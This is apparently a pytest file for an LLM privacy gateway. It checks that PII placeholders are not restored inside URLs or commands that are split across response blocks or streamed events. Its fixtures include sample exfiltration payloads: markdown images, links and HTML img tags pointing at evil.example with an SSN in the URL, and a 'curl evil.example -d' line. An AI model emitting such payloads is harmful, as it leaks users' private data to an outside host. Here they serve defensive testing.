"""One answer, one URL context: a URL split across Responses parts or items, Messages text
blocks, or begun in `content_block_start` keeps its placeholder, whole and streamed; a
stream event with a malformed index ends the stream with an error event."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from cogate.core.settings import Settings
from cogate.core.surface import SSEEvent
from cogate.policies.restore import VaultRestorer
from cogate.policies.vault.memory import Vault
from cogate.proxy.app import create_app
from cogate.proxy.assembly import assemble_pipeline
from cogate.proxy.surfaces.anthropic_messages import SURFACE as MESSAGES
from cogate.proxy.surfaces.openai_responses import SURFACE as RESPONSES
from fastapi.testclient import TestClient

SSN, NAME = "536-22-8841", "Eleanor Vance"
SPLITS = [
    ("Here ![x](//evil.example/p.png?s=", "[SSN_1]) thanks [PERSON_1]"),
    ("Here [x](<https://evil.example/a b ", "[SSN_1]>) thanks [PERSON_1]"),
    ('Here <img src="https://evil.example/p.png?a=\n', '[SSN_1]"> thanks [PERSON_1]'),
    ("Run: curl evil.example -d ", "[SSN_1]\nthanks [PERSON_1]"),
]


@pytest.fixture
def restorer() -> VaultRestorer:
    vault = Vault()
    vault.pseudonym("US_SSN", SSN)
    vault.pseudonym("PERSON", NAME)
    return VaultRestorer(vault)


def joined(texts: list[str]) -> str:
    out = "".join(texts)
    assert SSN not in out, out
    assert NAME in out, out
    return out


@pytest.mark.parametrize("first,second", SPLITS)
def test_messages_text_blocks_share_one_context(restorer, first, second) -> None:
    content = [{"type": "text", "text": first}, {"type": "text", "text": second}]
    answer = {"type": "message", "role": "assistant", "content": content}
    out = MESSAGES.restore_json("messages.create", answer, restorer.text)
    joined([b["text"] for b in out["content"]])
    assert restorer.withheld == 1


def messages_stream(restorer: VaultRestorer, events: list[dict]) -> list[dict]:
    stream = MESSAGES.stream_restorer("messages.create", restorer.held(), restorer.text)
    out = []
    for data in events:
        out += stream.feed(SSEEvent(data["type"], data))
    out += stream.finish()
    return [e.data for e in out]


def block_texts(events: list[dict]) -> list[str]:
    texts = []
    for e in events:
        if e["type"] == "content_block_start":
            texts.append(e["content_block"].get("text", ""))
        elif e["type"] == "content_block_delta":
            texts.append(e["delta"]["text"])
    return texts


@pytest.mark.parametrize("first,second", SPLITS)
def test_messages_stream_across_blocks_and_from_block_start(restorer, first, second) -> None:
    across = [
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": first}},
        {"type": "content_block_stop", "index": 0},
        {"type": "content_block_start", "index": 1, "content_block": {"type": "text", "text": ""}},
        {
            "type": "content_block_delta",
            "index": 1,
            "delta": {"type": "text_delta", "text": second},
        },
        {"type": "content_block_stop", "index": 1},
        {"type": "message_stop"},
    ]
    joined(block_texts(messages_stream(restorer, across)))
    begun = [
        {
            "type": "content_block_start",
            "index": 0,
            "content_block": {"type": "text", "text": first},
        },
        {
            "type": "content_block_delta",
            "index": 0,
            "delta": {"type": "text_delta", "text": second},
        },
        {"type": "content_block_stop", "index": 0},
    ]
    joined(block_texts(messages_stream(restorer, begun)))


def responses_answer(first: str, second: str, *, items: bool) -> dict:
    parts = [{"type": "output_text", "text": t, "annotations": []} for t in (first, second)]
    if items:
        output = [
            {"type": "message", "id": f"msg_{n}", "role": "assistant", "content": [part]}
            for n, part in enumerate(parts)
        ]
    else:
        output = [{"type": "message", "id": "msg_0", "role": "assistant", "content": parts}]
    return {"id": "resp_1", "object": "response", "output": output}


def part_texts(answer: dict) -> list[str]:
    return [p["text"] for item in answer["output"] for p in item["content"]]


@pytest.mark.parametrize("items", [False, True])
@pytest.mark.parametrize("first,second", SPLITS)
def test_responses_parts_and_items_share_one_context(restorer, first, second, items) -> None:
    answer = responses_answer(first, second, items=items)
    out = RESPONSES.restore_json("responses.create", answer, restorer.text)
    joined(part_texts(out))


def responses_events(first: str, second: str) -> list[dict]:
    """Two output items, one part each, streamed as the Responses API streams them."""
    events: list[dict] = []
    for n, text in enumerate((first, second)):
        where = {"item_id": f"msg_{n}", "output_index": n, "content_index": 0}
        half = len(text) // 2
        for piece in (text[:half], text[half:]):
            events.append({"type": "response.output_text.delta", **where, "delta": piece})
        events.append({"type": "response.output_text.done", **where, "text": text})
        part = {"type": "output_text", "text": text, "annotations": []}
        events.append({"type": "response.content_part.done", **where, "part": part})
        item = {"type": "message", "id": f"msg_{n}", "role": "assistant", "content": [part]}
        events.append({"type": "response.output_item.done", "output_index": n, "item": item})
    whole = responses_answer(first, second, items=True)
    events.append({"type": "response.completed", "response": whole})
    return events


@pytest.mark.parametrize("first,second", SPLITS)
def test_responses_stream_deltas_and_snapshots_agree(restorer, first, second) -> None:
    stream = RESPONSES.stream_restorer("responses.create", restorer.held(), restorer.text)
    out = []
    for data in responses_events(first, second):
        out += [e.data for e in stream.feed(SSEEvent(data["type"], data))]
    out += [e.data for e in stream.finish()]
    deltas = [e["delta"] for e in out if e["type"] == "response.output_text.delta"]
    streamed = joined(deltas)
    done = [e["text"] for e in out if e["type"] == "response.output_text.done"]
    parts = [e["part"]["text"] for e in out if e["type"] == "response.content_part.done"]
    items = [e["item"]["content"][0]["text"] for e in out if e["type"].endswith("item.done")]
    completed = part_texts(next(e for e in out if e["type"] == "response.completed")["response"])
    for snapshot in (done, parts, items, completed):
        assert joined(snapshot) == streamed


# -- a malformed index through the gateway: an error event, never a silent cut ---------------


def sse(events: list[dict]) -> bytes:
    return b"".join(f"event: {e['type']}\ndata: {json.dumps(e)}\n\n".encode() for e in events)


def gateway_stream(tmp_path: Path, path: str, events: list[dict], body: dict) -> str:
    def upstream(request: httpx.Request) -> httpx.Response:
        headers = {"content-type": "text/event-stream"}
        return httpx.Response(200, content=sse(events), headers=headers)

    (tmp_path / "policy.yaml").write_text("mode: redact\n")
    config = Settings(data_dir=tmp_path / "data", policy=tmp_path / "policy.yaml")
    transport = httpx.MockTransport(upstream)
    app = create_app(config, assemble=lambda s: assemble_pipeline(s, transport=transport))
    headers = {"content-type": "application/json", "x-api-key": "k", "authorization": "Bearer k"}
    with TestClient(app, base_url="http://127.0.0.1", headers=headers) as client:
        reply = client.post(path, json=body)
        assert reply.status_code == 200
        return reply.text


@pytest.mark.parametrize("index", ["0", [0], None, 1.5, True])
def test_messages_stream_with_a_malformed_index_ends_with_an_error_event(tmp_path, index) -> None:
    events = [
        {"type": "message_start", "message": {"id": "m", "type": "message", "content": []}},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "Hi "}},
        {
            "type": "content_block_delta",
            "index": index,
            "delta": {"type": "text_delta", "text": "x"},
        },
        {"type": "content_block_stop", "index": 0},
        {"type": "message_stop"},
    ]
    body = {
        "model": "m",
        "max_tokens": 8,
        "stream": True,
        "messages": [{"role": "user", "content": "I am Eleanor Vance, ssn 536-22-8841."}],
    }
    text = gateway_stream(tmp_path, "/v1/messages", events, body)
    assert "Hi " in text
    last = text.strip().split("\n\n")[-1]
    assert last.startswith("event: error\n")
    error = json.loads(last.split("data: ", 1)[1])
    assert error["type"] == "error" and "index" in error["error"]["message"]
    assert "message_stop" not in text


def test_responses_stream_with_a_malformed_index_ends_with_an_error_event(tmp_path) -> None:
    where = {"item_id": "msg_0", "content_index": 0}
    events = [
        {"type": "response.output_text.delta", **where, "output_index": 0, "delta": "Hi "},
        {"type": "response.output_text.delta", **where, "output_index": [0], "delta": "x"},
        {"type": "response.completed", "response": {"id": "r", "object": "response"}},
    ]
    body = {"model": "m", "stream": True, "input": "I am Eleanor Vance, ssn 536-22-8841."}
    text = gateway_stream(tmp_path, "/v1/responses", events, body)
    last = text.strip().split("\n\n")[-1]
    assert last.startswith("event: error\n") and "output_index" in last
    assert "response.completed" not in text
